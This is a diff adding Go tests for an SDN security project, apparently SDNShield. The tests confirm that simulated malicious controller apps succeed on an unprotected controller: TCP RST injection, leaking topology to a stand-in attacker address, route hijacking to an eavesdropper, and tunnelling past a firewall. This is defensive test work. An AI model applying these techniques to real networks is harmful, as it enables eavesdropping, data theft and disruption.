@@ -1,0 +1,228 @@
+package malicious
+
+import (
+	"testing"
+	"time"
+
+	"sdnshield/internal/apps"
+	"sdnshield/internal/controller"
+	"sdnshield/internal/isolation"
+	"sdnshield/internal/netsim"
+	"sdnshield/internal/of"
+)
+
+// env is a monolithic (fully privileged) test environment: these tests
+// verify that each attack app's mechanics actually work when nothing
+// stops them; the bench package then verifies SDNShield stops them.
+type env struct {
+	built  *netsim.Built
+	kernel *controller.Kernel
+	mono   *isolation.Monolith
+}
+
+func newEnv(t *testing.T, switches int) *env {
+	t.Helper()
+	b, err := netsim.Linear(switches)
+	if err != nil {
+		t.Fatal(err)
+	}
+	k := controller.New(b.Topo, nil)
+	for _, sw := range b.Net.Switches() {
+		ctrlSide, swSide := of.Pipe()
+		if err := sw.Start(swSide); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := k.AcceptSwitch(ctrlSide); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Cleanup(func() {
+		k.Stop()
+		b.Net.Stop()
+	})
+	return &env{built: b, kernel: k, mono: isolation.NewMonolith(k)}
+}
+
+func (e *env) launchL2(t *testing.T) {
+	t.Helper()
+	if err := e.mono.Launch(apps.NewL2Switch("l2switch")); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func (e *env) warmUp() {
+	for _, h := range e.built.Hosts {
+		h.Send(of.NewARPRequest(h.MAC(), h.IP(), 0))
+	}
+	time.Sleep(20 * time.Millisecond)
+	for _, h := range e.built.Hosts {
+		h.ClearInbox()
+	}
+}
+
+func (e *env) barrier(t *testing.T) {
+	t.Helper()
+	for _, sw := range e.kernel.Switches() {
+		if err := e.kernel.Barrier(sw.DPID); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func TestRSTInjectorMechanics(t *testing.T) {
+	e := newEnv(t, 2)
+	e.launchL2(t)
+	attacker := NewRSTInjector("")
+	if err := e.mono.Launch(attacker); err != nil {
+		t.Fatal(err)
+	}
+	e.warmUp()
+
+	h1, h2 := e.built.Hosts[0], e.built.Hosts[1]
+	h1.SendTCP(h2, 50000, 80, of.TCPFlagSYN, []byte("GET /"))
+	_, gotRST := h1.WaitFor(func(p *of.Packet) bool {
+		return p.TCPFlags&of.TCPFlagRST != 0
+	}, time.Second)
+	if !gotRST {
+		if _, also := h2.WaitFor(func(p *of.Packet) bool {
+			return p.TCPFlags&of.TCPFlagRST != 0
+		}, time.Second); !also {
+			t.Fatal("no RST injected on the unprotected controller")
+		}
+	}
+	if attacker.Accepted() == 0 {
+		t.Error("no accepted attack steps recorded")
+	}
+	if attacker.Attempted() != attacker.Accepted()+attacker.Denied() {
+		t.Error("attack accounting inconsistent")
+	}
+	// Non-HTTP traffic is left alone.
+	h1.ClearInbox()
+	before := attacker.Attempted()
+	h1.SendTCP(h2, 50001, 9999, of.TCPFlagSYN, nil)
+	time.Sleep(50 * time.Millisecond)
+	if attacker.Attempted() != before {
+		t.Error("injector should target only HTTP sessions")
+	}
+}
+
+func TestLeakerMechanics(t *testing.T) {
+	e := newEnv(t, 3)
+	e.launchL2(t)
+	attackerIP := of.IPv4FromOctets(203, 0, 113, 5)
+	dropBox := e.kernel.HostOS().RegisterEndpoint(attackerIP, 8080)
+
+	leaker := NewLeaker("", attackerIP, 8080)
+	if err := e.mono.Launch(leaker); err != nil {
+		t.Fatal(err)
+	}
+	if err := leaker.Exfiltrate(); err != nil {
+		t.Fatal(err)
+	}
+	got := dropBox.Received()
+	if len(got) != 1 {
+		t.Fatalf("drop box received %d payloads", len(got))
+	}
+	dump := string(got[0])
+	for _, want := range []string{"switches", "links", "flowCounts"} {
+		if !contains(dump, want) {
+			t.Errorf("dump missing %q: %s", want, dump)
+		}
+	}
+	// Closed drop box: the connect fails and is recorded as denied.
+	leaker2 := NewLeaker("leaker2", of.IPv4FromOctets(198, 51, 100, 1), 9)
+	if err := e.mono.Launch(leaker2); err != nil {
+		t.Fatal(err)
+	}
+	if err := leaker2.Exfiltrate(); err == nil {
+		t.Error("connect to closed endpoint should fail")
+	}
+	if leaker2.Denied() == 0 {
+		t.Error("failed step not recorded")
+	}
+}
+
+func TestHijackerMechanics(t *testing.T) {
+	e := newEnv(t, 3)
+	e.launchL2(t)
+	e.warmUp()
+	h1, h2, h3 := e.built.Hosts[0], e.built.Hosts[1], e.built.Hosts[2]
+
+	hijacker := NewRouteHijacker("", h1.IP(), h2.IP(), h3.IP())
+	if err := e.mono.Launch(hijacker); err != nil {
+		t.Fatal(err)
+	}
+	if err := hijacker.Hijack(); err != nil {
+		t.Fatal(err)
+	}
+	e.barrier(t)
+
+	h3.ClearInbox()
+	h1.SendTCP(h2, 50002, 80, of.TCPFlagSYN, []byte("secret"))
+	if _, diverted := h3.WaitFor(func(p *of.Packet) bool { return p.IPDst == h2.IP() }, time.Second); !diverted {
+		t.Fatal("traffic not diverted to the eavesdropper")
+	}
+	// Reverse-direction traffic is untouched by this rule.
+	h3.ClearInbox()
+	h2.SendTCP(h1, 50003, 80, of.TCPFlagSYN, nil)
+	if _, also := h3.WaitFor(func(p *of.Packet) bool { return p.IPDst == h1.IP() }, 100*time.Millisecond); also {
+		t.Error("reverse traffic should not be diverted")
+	}
+
+	// Unknown eavesdropper: the attack cannot start.
+	bad := NewRouteHijacker("hijacker2", h1.IP(), h2.IP(), of.IPv4FromOctets(9, 9, 9, 9))
+	if err := e.mono.Launch(bad); err != nil {
+		t.Fatal(err)
+	}
+	if err := bad.Hijack(); err == nil {
+		t.Error("hijack toward an unknown host should fail")
+	}
+}
+
+func TestTunnelerMechanics(t *testing.T) {
+	e := newEnv(t, 3)
+	if err := e.mono.Launch(apps.NewFirewall("firewall", []uint16{22})); err != nil {
+		t.Fatal(err)
+	}
+	e.launchL2(t)
+	e.warmUp()
+	e.barrier(t)
+	h1, h3 := e.built.Hosts[0], e.built.Hosts[2]
+
+	// Baseline: the firewall drops port 22.
+	h1.SendTCP(h3, 50004, 22, of.TCPFlagSYN, nil)
+	if _, leaked := h3.WaitFor(func(p *of.Packet) bool { return p.TPDst == 22 }, 100*time.Millisecond); leaked {
+		t.Fatal("firewall not effective before tunneling")
+	}
+
+	tunneler := NewTunneler("", h1.IP(), h3.IP(), 22)
+	if err := e.mono.Launch(tunneler); err != nil {
+		t.Fatal(err)
+	}
+	if err := tunneler.Establish(); err != nil {
+		t.Fatal(err)
+	}
+	e.barrier(t)
+
+	h3.ClearInbox()
+	h1.SendTCP(h3, 50005, 22, of.TCPFlagSYN, []byte("ssh"))
+	pkt, smuggled := h3.WaitFor(func(p *of.Packet) bool { return p.TPDst == 22 }, time.Second)
+	if !smuggled {
+		t.Fatal("tunnel failed to smuggle port-22 traffic")
+	}
+	if string(pkt.Payload) != "ssh" {
+		t.Errorf("payload = %q", pkt.Payload)
+	}
+	if tunneler.Accepted() == 0 {
+		t.Error("no accepted steps recorded")
+	}
+}
+
+func contains(s, sub string) bool {
+	for i := 0; i+len(sub) <= len(s); i++ {
+		if s[i:i+len(sub)] == sub {
+			return true
+		}
+	}
+	return false
+}
